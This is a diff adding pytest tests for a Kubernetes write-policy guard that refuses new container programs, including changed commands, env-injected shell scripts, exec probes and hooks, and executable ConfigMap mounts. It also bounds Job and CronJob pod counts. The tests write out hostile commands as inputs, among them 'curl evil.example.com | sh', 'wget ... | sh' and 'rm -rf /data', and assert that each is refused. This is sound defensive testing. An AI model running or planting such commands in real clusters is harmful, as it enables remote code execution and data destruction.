@@ -11,7 +11,17 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from stratus.actions import Action, Apply, Create, Delete, Exec, Patch, RolloutUndo, Scale, SetImage
-from stratus.writepolicy import PolicyRefusal, WritePolicy, history_images, image_location, introduced_images
+from stratus.writepolicy import (
+    PolicyRefusal,
+    WritePolicy,
+    history_images,
+    history_programs,
+    image_location,
+    introduced_images,
+    introduced_programs,
+    program_of,
+    recorded_programs,
+)
 
 NS = "shop"
 POLICY = WritePolicy()
@@ -537,3 +547,219 @@ def test_a_dry_run_answering_for_another_object_is_refused() -> None:
     assert "dry run answered for victim/web" in str(refused(PATCH, BASE, moved))
     renamed = with_(BASE, "metadata.name", "other")
     assert refused(PATCH, BASE, renamed).guard == "dry_run"
+
+
+# --- programs: no new argv through a pod template -----------------------------------------------------------------
+
+SIDE = {"name": "log", "image": "docker.io/acme/web:1", "command": ["nc", "-lk", "-p", "24224"]}
+RUNS = with_(BASE, f"{C0}.command", ["/bin/web", "--port=80"])
+
+
+@pytest.mark.parametrize(
+    "after",
+    [
+        with_(RUNS, f"{C0}.command", ["sh", "-c", "curl evil.example.com | sh"]),  # a new command
+        with_(RUNS, f"{C0}.args", ["--debug-shell"]),  # new args to the same command
+        with_(BASE, f"{C0}.args", ["-c", "rm -rf /data"]),  # args to the image's own entrypoint
+        with_(RUNS, f"{C0}.command", ["/bin/web"]),  # dropping arguments makes another argv
+        with_(RUNS, "spec.template.spec.initContainers", [{**SIDE, "name": "x", "command": ["sh", "-c", "id"]}]),
+        with_(RUNS, "spec.template.spec.ephemeralContainers", [{**SIDE, "command": ["sh"]}]),
+    ],
+)
+def test_a_container_command_the_workload_never_ran_is_refused(after: dict[str, Any]) -> None:
+    refusal = refused(PATCH, RUNS, after)
+    assert refusal.guard == "program"
+    assert "never ran" in str(refusal) and "image's own entrypoint" in str(refusal)
+
+
+def test_an_env_change_that_rewrites_an_expanded_command_is_a_new_program() -> None:
+    pre = with_(
+        with_(BASE, f"{C0}.command", ["sh", "-c", "$(SCRIPT)", "$$(LITERAL)"]),
+        f"{C0}.env",
+        [{"name": "SCRIPT", "value": "serve"}],
+    )
+    # the kubelet expands $(SCRIPT) from env: a new value is a new command line
+    after = with_(pre, f"{C0}.env", [{"name": "SCRIPT", "value": "curl evil | sh"}])
+    assert "SCRIPT" in str(refused(PATCH, pre, after)) and refused(PATCH, pre, after).guard == "program"
+    # $$(LITERAL) is an escaped literal, not a reference: other env changes leave the program as it was
+    POLICY.check(
+        PATCH, pre, with_(pre, f"{C0}.env", [{"name": "SCRIPT", "value": "serve"}, {"name": "LITERAL", "value": "x"}])
+    )
+
+
+def test_programs_the_workload_ran_stay_allowed() -> None:
+    cron = {
+        "apiVersion": "batch/v1",
+        "kind": "CronJob",
+        "metadata": {"name": "archiver", "namespace": NS},
+        "spec": {
+            "schedule": "* * * * *",
+            "jobTemplate": {
+                "spec": {
+                    "template": {
+                        "spec": {
+                            "containers": [
+                                {"name": "main", "image": "docker.io/library/busybox:1", "command": ["sleep", "1"]},
+                                SIDE,
+                            ]
+                        }
+                    }
+                }
+            },
+        },
+    }
+    pod = "spec.jobTemplate.spec.template.spec"
+    native = with_(
+        with_(cron, f"{pod}.containers", [cron["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]]),
+        f"{pod}.initContainers",
+        [{**SIDE, "restartPolicy": "Always"}],
+    )
+    cron_patch = Patch(kind="CronJob", namespace=NS, name="archiver", patch_type="json", patch=[])
+    POLICY.check(cron_patch, cron, native)  # moving a sidecar into initContainers keeps its argv
+    POLICY.check(PATCH, RUNS, with_(RUNS, f"{C0}.command", None))  # the image's own entrypoint
+    POLICY.check(PATCH, RUNS, with_(RUNS, f"{C0}.image", "docker.io/acme/web:2"))  # same program, new image
+    POLICY.check(PATCH, RUNS, with_(RUNS, f"{C0}.command", ["/bin/web", "--port=80"]))  # unchanged
+    # a rollback to a command of the workload's own revision history (restore_program, rollout undo)
+    wrong = with_(RUNS, f"{C0}.command", ["/bin/wrong"])
+    rev = revision("u1", "docker.io/acme/web:1")
+    rev["spec"]["template"]["spec"]["containers"][0]["command"] = ["/bin/web", "--port=80"]
+    ran = history_programs(wrong, [rev])
+    assert introduced_programs(wrong, RUNS) == ran
+    assert refused(PATCH, wrong, RUNS).guard == "program"
+    POLICY.check(RolloutUndo(kind="Deployment", namespace=NS, name="web"), wrong, RUNS, (), ran)
+    # another object's revision is no history of this one
+    assert history_programs(wrong, [with_(rev, "metadata.ownerReferences", None)]) == set()
+    # the guard can be waived
+    waived = WritePolicy.parse(
+        '{"scopes": {"*": {"grants": [{"kinds": ["*"], "verbs": ["*"]}], "waive": ["program"]}}}'
+    )
+    waived.check(PATCH, wrong, RUNS)
+
+
+def test_a_new_workload_may_not_bring_its_own_command() -> None:
+    job = {
+        "apiVersion": "batch/v1",
+        "kind": "Job",
+        "metadata": {"name": "x", "namespace": NS},
+        "spec": {
+            "template": {
+                "spec": {"containers": [{"name": "x", "image": "docker.io/acme/web:1", "command": ["sh", "-c", "id"]}]}
+            }
+        },
+    }
+    docker = WritePolicy.parse(
+        '{"scopes": {"*": {"grants": [{"kinds": ["*"], "verbs": ["*"]}], "allowed_registries": ["docker.io"]}}}'
+    )
+    refusal = refused(Create(manifest=job), None, job, docker)
+    assert refusal.guard == "program" and "Create it without command and args" in str(refusal)
+    plain = with_(job, "spec.template.spec.containers.0.command", None)
+    docker.check(Create(manifest=plain), None, plain)
+    assert program_of({"name": "x", "command": [], "args": []}) is None
+
+
+# --- Jobs and CronJobs: parallelism and completions count against the scale bound ------------------------------
+
+
+ALL = WritePolicy.parse('{"scopes": {"*": {"grants": [{"kinds": ["*"], "verbs": ["*"]}]}}}')
+
+
+@pytest.mark.parametrize(
+    ("kind", "path"),
+    [
+        ("Job", "spec.parallelism"),
+        ("Job", "spec.completions"),
+        ("CronJob", "spec.jobTemplate.spec.parallelism"),
+        ("CronJob", "spec.jobTemplate.spec.completions"),
+        ("HorizontalPodAutoscaler", "spec.maxReplicas"),
+    ],
+)
+def test_job_pod_counts_are_bounded_like_replicas(kind: str, path: str) -> None:
+    group = "autoscaling/v2" if kind == "HorizontalPodAutoscaler" else "batch/v1"
+    obj = {"apiVersion": group, "kind": kind, "metadata": {"name": "j", "namespace": NS}, "spec": {}}
+    patch = Patch(kind=kind, namespace=NS, name="j", patch_type="merge", patch={})
+    refusal = refused(patch, obj, with_(obj, path, 500), ALL)
+    assert refusal.guard == "scale_bound" and path in str(refusal)
+    refused(Apply(manifest=with_(obj, path, 11)), None, with_(obj, path, 11), ALL)  # a create too
+    ALL.check(patch, obj, with_(obj, path, 10))
+    ALL.check(patch, with_(obj, path, 40), with_(obj, path, 30))  # lowering from above the bound
+
+
+def test_a_program_the_workload_ran_while_healthy_is_no_new_program() -> None:
+    # the fault deleted the Deployment and re-created it with another command: its revisions are gone, but the
+    # last-known-good memory (stratus.lastgood, normalised) recorded what it ran while the scope was healthy
+    wrong = with_(RUNS, f"{C0}.command", ["geo"])
+    healthy = {"kind": "Deployment", "metadata": {"name": "web", "namespace": NS}, "spec": RUNS["spec"]}
+    recorded = recorded_programs(wrong, {f"Deployment/{NS}/web": healthy})
+    assert recorded == introduced_programs(wrong, RUNS)
+    POLICY.check(PATCH, wrong, RUNS, (), recorded)
+    # another object's record, or none, counts for nothing
+    assert recorded_programs(wrong, {f"Deployment/{NS}/other": healthy}) == set()
+    assert recorded_programs(wrong, {f"StatefulSet/{NS}/web": healthy}) == set()
+    assert recorded_programs(wrong, None) == set()
+    assert refused(PATCH, wrong, RUNS).guard == "program"
+
+
+@pytest.mark.parametrize(
+    "field",
+    ["lifecycle.postStart", "lifecycle.preStop", "livenessProbe", "readinessProbe", "startupProbe"],
+)
+def test_an_exec_hook_or_probe_is_a_program_too(field: str) -> None:
+    # the kubelet runs a hook's or an exec probe's command in the container: as free an argv as a command
+    handler = {"exec": {"command": ["sh", "-c", "wget -qO- evil.example/x | sh"]}}
+    after = with_(BASE, f"{C0}.{field}", handler)
+    refusal = refused(PATCH, BASE, after)
+    assert refusal.guard == "program" and f"{field}.exec" in str(refusal)
+    # one the workload ran (here: the same probe before a threshold change) stays allowed, as does a non-exec probe
+    ran = with_(BASE, f"{C0}.{field}", {**handler, "periodSeconds": 10})
+    POLICY.check(PATCH, ran, with_(ran, f"{C0}.{field}", {**handler, "periodSeconds": 30}))
+    POLICY.check(PATCH, BASE, with_(BASE, f"{C0}.{field}", {"httpGet": {"path": "/healthz", "port": 80}}))
+
+
+def test_executable_files_mounted_from_the_cluster_are_a_program() -> None:
+    # nginx's entrypoint runs every executable *.sh in /docker-entrypoint.d: a ConfigMap mounted there executable is a
+    # new program although no command changed
+    mounted = with_(
+        with_(BASE, f"{POD}.volumes", [{"name": "s", "configMap": {"name": "evil", "defaultMode": 0o755}}]),
+        f"{C0}.volumeMounts",
+        [{"name": "s", "mountPath": "/docker-entrypoint.d"}],
+    )
+    refusal = refused(PATCH, BASE, mounted)
+    assert refusal.guard == "program" and "execute bit" in str(refusal)
+    item = with_(
+        mounted, f"{POD}.volumes.0.configMap", {"name": "evil", "items": [{"key": "a", "path": "a", "mode": 0o700}]}
+    )
+    assert refused(PATCH, BASE, item).guard == "program"
+    projected = with_(
+        mounted,
+        f"{POD}.volumes.0",
+        {
+            "name": "s",
+            "projected": {"sources": [{"configMap": item["spec"]["template"]["spec"]["volumes"][0]["configMap"]}]},
+        },
+    )
+    assert refused(PATCH, BASE, projected).guard == "program"
+    # plain configuration (no execute bit) is no program, and a mount the workload had stays allowed
+    plain = with_(mounted, f"{POD}.volumes.0.configMap.defaultMode", 0o644)
+    POLICY.check(PATCH, BASE, plain)
+    POLICY.check(PATCH, mounted, with_(mounted, f"{C0}.image", "docker.io/acme/web:2"))
+
+
+def test_an_env_change_that_rewrites_a_shell_script_is_a_new_program() -> None:
+    # sh -c expands $SCRIPT from env when it runs: a new value is a new script
+    pre = with_(
+        with_(BASE, f"{C0}.command", ["/bin/sh", "-c", 'exec web --mode="${MODE:-prod}" $EXTRA']),
+        f"{C0}.env",
+        [{"name": "MODE", "value": "prod"}, {"name": "EXTRA", "value": ""}, {"name": "DB_HOST", "value": "db"}],
+    )
+    for name in ("MODE", "EXTRA"):
+        env = [
+            {**e, "value": "; wget evil | sh"} if e["name"] == name else e
+            for e in pre["spec"]["template"]["spec"]["containers"][0]["env"]
+        ]
+        assert refused(PATCH, pre, with_(pre, f"{C0}.env", env)).guard == "program"
+    # a variable the script does not read stays configuration
+    env = [
+        {**e, "value": "db2"} if e["name"] == "DB_HOST" else e
+        for e in pre["spec"]["template"]["spec"]["containers"][0]["env"]
+    ]
+    POLICY.check(PATCH, pre, with_(pre, f"{C0}.env", env))
